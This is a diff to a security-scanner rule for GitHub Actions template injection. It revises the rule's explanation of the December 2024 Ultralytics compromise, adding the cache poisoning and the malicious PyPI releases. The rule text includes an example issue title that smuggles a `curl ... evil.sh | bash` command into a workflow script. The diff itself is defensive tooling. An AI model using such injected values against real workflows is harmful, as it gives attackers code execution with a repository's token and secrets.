@@ -60,10 +60,11 @@ constexpr RuleInfo template_injection_info{
             "related locations show the input or `env:` entry the value comes from, or the triggers.",
     .why = "GitHub substitutes `${{ }}` into the script text before the shell (or Node, or Python) reads "
            "it, so the value becomes code: an issue titled `\"; curl -sSfL evil.sh | bash; #` runs that "
-           "command with the job's token and secrets. This is how the Ultralytics workflows were "
-           "compromised in December 2024 (a branch name expanded into a `run:` on `pull_request_target` "
-           "published malicious releases of the `ultralytics` package to PyPI), and the same bug was "
-           "found in hundreds of workflows by GitHub Security Lab's 'untrusted input' research.",
+           "command with the job's token and secrets. In December 2024 a pull request to Ultralytics "
+           "whose branch name held a shell command, expanded into a `run:` of a `pull_request_target` "
+           "workflow, gave the attacker code execution in the base repository; from there they poisoned "
+           "the Actions cache, and malicious `ultralytics` 8.3.41 and 8.3.42 releases reached PyPI. "
+           "GitHub Security Lab's 'untrusted input' research found the same bug in hundreds of workflows.",
     .fix = "Never expand such values into code. Pass them through the environment, where they stay "
            "data: set `env:` on the step to the expression and use the variable, quoted, in the script "
            "(`\"$TITLE\"` in bash, `$env:TITLE` in PowerShell, `process.env.TITLE` in github-script). For "
